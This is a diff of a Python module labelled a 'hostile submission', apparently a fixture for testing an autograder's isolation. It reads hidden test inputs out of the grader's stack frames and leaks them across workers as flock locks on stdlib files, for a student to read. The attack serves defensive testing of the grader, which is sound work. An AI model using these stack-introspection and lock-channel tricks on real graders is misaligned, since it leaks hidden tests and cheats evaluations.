@@ -1,9 +1,10 @@
 """Hostile submission: pass hidden inputs from the hidden-probe worker to the public one
 through kernel state every worker shares: locks on stdlib files both may read.
 
-The hidden worker (its job holds probes named relu_model.hidden_*) encodes a byte of a hidden input
-as shared flocks on eight stdlib files and holds them; the public worker polls those files
-and prints what it saw, where the student would read it.
+Whichever worker runs a hidden probe (named relu_model.hidden_*: a worker of its own, or the
+one that ran the public probes, going on) encodes a byte of that hidden input as shared flocks
+on eight stdlib files and holds them; a public probe polls those files and prints what it saw,
+where the student would read it.
 """
 import fcntl
 import glob
@@ -15,17 +16,18 @@ import numpy
 import tensorflow.compat.v1 as tf
 
 FILES = sorted(glob.glob(os.path.join(os.path.dirname(os.__file__), "*.py")))[:8]
-_done = []
+_done = set()
 
 
-def _job_probes():
+def _current_probe():
+    """The probe the worker is running now (its loop's `probe`), as the worker holds it."""
     frame = sys._getframe()
     while frame is not None:
-        job = frame.f_locals.get("job")
-        if isinstance(job, dict) and isinstance(job.get("probes"), list):
-            return job["probes"]
+        probe = frame.f_locals.get("probe")
+        if isinstance(probe, dict) and isinstance(probe.get("id"), str):
+            return probe
         frame = frame.f_back
-    return []
+    return {}
 
 
 def _signal(value):
@@ -57,16 +59,16 @@ def _listen():
 
 
 def relu_model(features, weights, biases):
-    if not _done:
-        _done.append(1)
-        probes = _job_probes()
-        hidden = [p for p in probes if "hidden" in str(p.get("id"))]
-        if hidden:
-            first = float(abs(numpy.asarray(hidden[0]["args"]["features"])).flat[0])
-            value = int(first * 1000) % 255 + 1  # never 0: a leak always shows
-            print("SENT", value)
-            _signal(value)
-        else:
-            _listen()
+    probe = _current_probe()
+    hidden = "hidden" in str(probe.get("id"))
+    if hidden and "sent" not in _done:
+        _done.add("sent")
+        first = float(abs(numpy.asarray(probe.get("args", {}).get("features", 0.5))).flat[0])
+        value = int(first * 1000) % 255 + 1  # never 0: a leak always shows
+        print("SENT", value)
+        _signal(value)
+    elif not hidden and "listened" not in _done:
+        _done.add("listened")
+        _listen()
     hidden_layer = tf.nn.relu(tf.add(tf.matmul(features, weights[0]), biases[0]))
     return tf.add(tf.matmul(hidden_layer, weights[1]), biases[1])
